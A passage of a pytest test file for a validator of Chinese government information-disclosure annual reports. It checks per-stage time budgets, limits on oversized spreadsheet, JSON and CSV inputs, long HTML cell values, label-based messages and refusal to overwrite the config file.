BUDGET = 3.0  # seconds per file in these tests: the seed reads in a fraction of it


def _stall(*args, **kwargs):
    import time

    time.sleep(3 * BUDGET)  # interrupted by the file's budget timer; without one, the stage just ends late


@pytest.mark.parametrize("stage", ["checking", "localisation", "rendering"])
def test_the_time_budget_covers_every_stage_of_a_file(tmp_path, monkeypatch, stage):
    """A file that reads in time but whose checking, localisation (the suggested fix) or the
    rendering of its findings runs past its budget ends unreadable with the reason; the
    other file of the batch is checked as usual."""
    from validator import engine, finding, fixes

    slow, good = tmp_path / "slow.txt", tmp_path / "good.txt"
    slow.write_text((ROOT / "samples" / "taiqian_2020_changed_cell.txt").read_text(encoding="utf-8"),
                    encoding="utf-8")  # errors, so the localiser runs, and findings to render
    good.write_text(SEED_TEXT, encoding="utf-8")
    if stage == "checking":
        real = engine.CHECKS["extraction"]

        def check(batch, rule):
            if any(r.path.endswith("slow.txt") for r in batch.reports):
                _stall()
            return real.run(batch, rule)

        monkeypatch.setitem(engine.CHECKS, "extraction", engine.Kind("extraction", check, real.stage, real.cross_year))
    elif stage == "localisation":
        monkeypatch.setattr(fixes, "localize_report", _stall)
    else:
        real_dict = finding.Finding.to_dict
        monkeypatch.setattr(finding.Finding, "to_dict",
                            lambda self: _stall() if self.severity == "error" else real_dict(self))
    result = check_paths([slow, good], budget=BUDGET)
    bad, ok = result.files
    assert bad.status == "unreadable" and "超时" in bad.reason and f"{BUDGET:g} 秒" in bad.reason, bad.reason
    assert not bad.findings
    assert ok.status == "passed" and result.exit_code == 2
    if stage == "localisation":  # without a budget the same file is checked in full
        monkeypatch.undo()
        assert check_paths([slow], budget=None).files[0].status == "failed"


def test_the_budget_option_reaches_the_later_stages(tmp_path, monkeypatch):
    """``--time-budget`` through the CLI: the slow stage ends the file unreadable (exit 2,
    one line naming the file), never a hang or a traceback."""
    from validator import fixes

    slow = tmp_path / "slow.txt"
    slow.write_text((ROOT / "samples" / "taiqian_2020_changed_cell.txt").read_text(encoding="utf-8"),
                    encoding="utf-8")
    monkeypatch.setattr(fixes, "localize_report", _stall)
    proc = _cli("check", slow, "--time-budget", str(BUDGET), "--format", "json")
    assert proc.returncode == 2, proc.stderr
    f = json.loads(proc.stdout)["files"][0]
    assert f["status"] == "unreadable" and "超时" in f["reason"], f
    assert "slow.txt" in proc.stderr and "Traceback" not in proc.stderr


# ---------------------------------------------------------------- bombs: XLSX read lazily, canonical limits

def _far_right_xlsx(rows: int) -> bytes:
    """A valid XLSX with one stored cell per row, in the last column (XFD): few cells, but
    a reader that pads rows to their last column makes 16,384 positions of each row."""
    body = "".join(f'<row r="{r}"><c r="XFD{r}" t="inlineStr"><is><t>x</t></is></c></row>' for r in range(1, rows + 1))
    return _with_sheet(f"<sheetData>{body}</sheetData>")


def _with_sheet(inner: str) -> bytes:
    import zipfile

    from openpyxl import Workbook

    sheet = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
             f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{inner}</worksheet>')
    wb = Workbook()
    wb.active["A1"] = "x"
    buf, out = io.BytesIO(), io.BytesIO()
    wb.save(buf)
    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, inner and sheet.encode() if info.filename == "xl/worksheets/sheet1.xml"
                         else src.read(info))
    return out.getvalue()


def test_xlsx_rows_padded_far_to_the_right_count_against_the_cell_limit(tmp_path, monkeypatch):
    from validator.readers import sheet

    monkeypatch.setattr(sheet, "MAX_CELLS", 20_000)
    p = tmp_path / "far.xlsx"
    p.write_bytes(_far_right_xlsx(200))  # 200 stored cells, 3.3 million positions
    f = check_paths([p]).files[0]
    assert f.status == "unreadable" and "单元格超过" in f.reason, (f.status, f.reason)


def test_xlsx_with_merged_cells_is_read_lazily(tmp_path, monkeypatch):
    """The seed workbook (its merged ranges as the official layout has them) is read in
    openpyxl's read-only mode, which makes no cell object until it is read, and gives the
    seed's verdict; a workbook of styled blanks with one merge is read the same way."""
    import openpyxl

    modes = []
    real = openpyxl.load_workbook
    monkeypatch.setattr(openpyxl, "load_workbook", lambda *a, **k: modes.append(k.get("read_only")) or real(*a, **k))
    seed = ROOT / "tests" / "fixtures" / "taiqian_2020.xlsx"
    assert real(seed).active.merged_cells.ranges  # the fixture has merges
    f = check_paths([seed]).files[0]
    assert f.status == "passed" and not [x for x in f.findings if x.severity != "info"]
    p = tmp_path / "styled.xlsx"
    p.write_bytes(_styled_cells_xlsx(5000))  # under the limit, with a merged range
    assert check_paths([p]).files[0].status == "unreadable"  # no report in it, but read
    assert modes and all(modes), modes


def test_canonical_json_records_are_counted_before_the_file_is_parsed(tmp_path, monkeypatch):
    import pandas as pd

    from validator import canonical

    p = tmp_path / "cells.json"
    records = _canonical_frame(tmp_path).to_json(orient="records", force_ascii=False)
    bomb = records[:-1] + ",{}" * 20_000 + "]"  # the canonical records, then many empty ones
    p.write_text(bomb, encoding="utf-8")
    parsed = []
    real = pd.read_json
    monkeypatch.setattr(pd, "read_json", lambda *a, **k: parsed.append(1) or real(*a, **k))
    monkeypatch.setattr(canonical, "MAX_ROWS", 10_000)
    f = check_paths([p]).files[0]
    assert f.status == "unreadable" and "行的上限" in f.reason and not parsed, f.reason
    p.write_text(records, encoding="utf-8")  # the same records without the bomb: read
    assert check_paths([p]).files[0].status == "passed"


def test_canonical_csv_with_a_huge_header_keeps_only_its_columns(tmp_path):
    """A canonical CSV whose header adds 100,000 unknown columns is read as its known
    columns (the same verdict), not as a frame of 100,000 columns."""
    df = _canonical_frame(tmp_path)
    p = tmp_path / "wide.csv"
    df.to_csv(p, index=False, encoding="utf-8-sig")
    lines = p.read_text(encoding="utf-8-sig").splitlines()
    extra = "".join(f",x{i}" for i in range(100_000))
    p.write_text("\n".join([lines[0] + extra] + lines[1:]) + "\n", encoding="utf-8-sig")
    f = check_paths([p]).files[0]
    assert f.status == "passed", (f.status, f.reason)


# ---------------------------------------------------------------- long numbers and long text in an HTML cell

LONG_VALUES = {"digits": ("9" * 5000, "X010"), "text": ("这是一段很长的说明文字" * 40, "X001"),
               "paragraphs": ("申请人撤回了申请。" * 30 + "</span></p><p><span>" + "本机关已答复。" * 30, "X001"),
               "lines": ("申请人撤回了申请" * 30 + "<br/>" + "9" * 400 + "<br/>", "X001")}
HTML_ROWS = {"一、本年新收政府信息公开申请数量": ("t3", "new", "natural_person"),
             "（一）予以公开": ("t3", "results.granted", "natural_person"),
             "1.属于国家秘密": ("t3", "results.withheld.state_secret", "natural_person"),
             "四、结转下年度继续办理": ("t3", "carried_forward", "natural_person"),
             "维持": ("t4", "review", "upheld")}


@pytest.mark.parametrize("kind", sorted(LONG_VALUES))
@pytest.mark.parametrize("label", sorted(HTML_ROWS))
def test_a_long_value_in_an_html_cell_is_that_cells_finding(tmp_path, kind, label):
    """A very long number or a long (multi-paragraph) text in one value cell of the seed page
    is a finding for that cell; 表三 and 表四 stay tables (no X006) and every other cell
    reads as in the seed (nothing shifts)."""
    page = (ROOT / "tests" / "fixtures" / "taiqian_2020.html").read_bytes().decode("gb18030")
    value, rule = LONG_VALUES[kind]
    m = re.compile(r">(\d+)</span>").search(page, page.index(label))
    p = tmp_path / "long.html"
    p.write_bytes((page[:m.start()] + f">{value}</span>" + page[m.end():]).encode("gb18030"))
    seed = check_paths([ROOT / "tests" / "fixtures" / "taiqian_2020.html"], keep_cells=True).files[0]
    f = check_paths([p], keep_cells=True).files[0]
    table, row, column = HTML_ROWS[label]
    errors = [(x.rule, x.table_code, x.row_code, x.column_code) for x in f.findings if x.severity == "error"]
    assert errors == [(rule, table, row, column)], errors
    changed = {(c["table"], c["row"], c["column"]) for c, s in zip(f.cells, seed.cells) if c["raw"] != s["raw"]}
    assert changed == {(table, row, column)}


# ---------------------------------------------------------------- messages name tables, rows and columns by their labels

def _codes_pattern():
    from validator.template import TEMPLATE

    codes = {t.code for t in TEMPLATE.tables.values()}
    codes |= {e.code for t in TEMPLATE.tables.values() for e in (*t.rows, *t.columns) if "_" in e.code or "." in e.code}
    alt = "|".join(sorted(map(re.escape, codes), key=len, reverse=True))
    return re.compile(rf"(?<![A-Za-z0-9_.])(?:{alt})(?![A-Za-z0-9_])")


def test_messages_name_tables_by_their_labels_and_leave_no_empty_slot(tmp_path):
    """Every message and reason of a batch of seed variants (the samples, an unknown 表三 row
    (S005), odd values in every table) names tables, rows and columns by the template's
    labels: no code (t3, natural_person, results.granted …) and no empty （） where a
    parameter was missing."""
    variants = {"unknown_row.txt": SEED_TEXT.replace("(六) 其他处理\t", "（八）其他情形\t1\t0\t0\t0\t0\t0\t1\n(六) 其他处理\t", 1),
                "values.txt": _seed_with_cell("1e309"), "ambiguous.txt": _seed_with_cell("8 8"),
                "blank.txt": _blank_seed()}
    for name, text in variants.items():
        (tmp_path / name).write_text(text, encoding="utf-8")
    paths = sorted((ROOT / "samples").glob("*.txt")) + sorted(tmp_path.glob("*.txt"))
    result = check_paths(paths)
    codes = _codes_pattern()
    texts = [(f.path, x.rule, x.message) for f in result.files for x in f.findings]
    texts += [(f.path, "reason", f.reason) for f in result.files if f.reason]
    assert any(rule == "S005" for _, rule, _ in texts)
    for path, rule, text in texts:
        assert not codes.search(text), (path, rule, text)
        assert "（）" not in text and "「」" not in text, (path, rule, text)


@pytest.mark.parametrize("config", ["--config", "validator.toml", "pyproject.toml"])
def test_output_cannot_overwrite_the_config_file(tmp_path, config):
    """The configuration the run uses (given with --config, or found from the current
    directory: validator.toml, pyproject.toml's [tool.validator]) is protected like an
    input, under every name for it."""
    report = tmp_path / "report.txt"
    report.write_text(SEED_TEXT, encoding="utf-8")
    name = "settings.toml" if config == "--config" else config
    conf = tmp_path / name
    conf.write_text(("[tool.validator]\n" if name == "pyproject.toml" else "") + "strict = false\n", encoding="utf-8")
    extra = ["--config", conf] if config == "--config" else []
    before = _digest(conf)
    for how, out in _aliases(tmp_path, conf).items():
        proc = _cli("check", report, *extra, "--format", "json", "-o", out, cwd=tmp_path)
        assert proc.returncode == 4 and "拒绝覆盖" in proc.stderr, (how, proc.returncode, proc.stderr)
        assert _digest(conf) == before, how
    ok = _cli("check", report, *extra, "--format", "json", "-o", tmp_path / "out.json", cwd=tmp_path)
    assert ok.returncode == 0, ok.stderr  # the same run with another output path is fine
